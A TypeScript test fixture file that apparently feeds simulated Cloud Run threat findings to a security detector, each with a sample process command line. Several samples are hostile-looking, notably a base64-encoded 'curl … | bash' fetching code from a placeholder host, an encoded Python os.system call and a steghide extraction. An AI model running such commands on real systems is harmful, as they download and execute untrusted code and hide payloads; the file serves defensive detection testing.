import type { DetectorFixtures } from './detector-fixtures.ts';
import { program } from './detector-fixtures-parts.ts';

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

/** Something hides what it does, or is what nobody has heard of. */
export const hidingFixtures: DetectorFixtures = {
  CLOUD_RUN_BASE64_ELF_FILE_CMDLINE: {
    category: 'Defense Evasion: Base64 ELF File Command Line',
    severity: 'MEDIUM',
    description: 'An argument holds the beginning of an ELF file in base64.',
    playbook: 'defence-evasion',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/bin/bash', '-c', 'sleep 60; base64 -d f0VMRgIB; sleep 10'])] }),
  },
  CLOUD_RUN_BASE64_ENCODED_PYTHON_SCRIPT_EXECUTED: {
    category: 'Defense Evasion: Base64 Encoded Python Script Executed',
    severity: 'MEDIUM',
    description: 'An argument holds Python code in base64.',
    playbook: 'defence-evasion',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        program(facts, ['/bin/sh', '-c', `echo ${base64(`python3 -c "import os; os.system('id')"`)} | base64 -d | sh`]),
      ],
    }),
  },
  CLOUD_RUN_BASE64_ENCODED_SHELL_SCRIPT_EXECUTED: {
    category: 'Defense Evasion: Base64 Encoded Shell Script Executed',
    severity: 'MEDIUM',
    description: 'An argument holds a shell script in base64.',
    playbook: 'defence-evasion',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        program(facts, ['/bin/sh', '-c', `echo ${base64(`curl http://${facts.host}/x | bash`)} | base64 -d | bash`]),
      ],
    }),
  },
  CLOUD_RUN_LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER: {
    category: 'Defense Evasion: Launch Code Compiler Tool In Container',
    severity: 'LOW',
    description: 'A compiler was started in a container.',
    playbook: 'defence-evasion',
    recommends: 'hand-over',
    says: (facts) => ({ processes: [program(facts, ['/usr/bin/gcc', '-o', '/tmp/a', '/tmp/a.c'])] }),
  },
  CLOUD_RUN_STEGANOGRAPHY_TOOL_DETECTED: {
    category: 'Command and Control: Steganography Tool Detected',
    severity: 'CRITICAL',
    description: 'A tool that hides data in other data was run.',
    playbook: 'defence-evasion',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/usr/bin/steghide', 'extract', '-sf', 'logo.jpg', '-p', 'x'])] }),
  },
  CLOUD_RUN_PROGRAM_RUN_WITH_DISALLOWED_HTTP_PROXY_ENV: {
    category: 'Execution: Program Run with Disallowed HTTP Proxy Env',
    severity: 'LOW',
    description: 'A program was run with a proxy that is not allowed.',
    playbook: 'defence-evasion',
    recommends: 'hand-over',
    says: (facts) => ({
      processes: [
        program(facts, ['/usr/bin/curl', 'https://api.example.com/'], {
          envVariables: [{ name: 'HTTP_PROXY', val: `http://${facts.host}:3128` }],
        }),
      ],
    }),
  },
  CLOUD_RUN_NOT_YET_HEARD_OF: {
    category: 'Execution: Something That Nobody Has Heard Of (Preview)',
    severity: 'MEDIUM',
    description: 'Something that was added to Security Command Center later.',
    playbook: 'generic',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/opt/new/tool', '--flag'])],
      launchState: 'PREVIEW',
      somethingNew: { nested: [1, 'two', null] },
    }),
  },
};
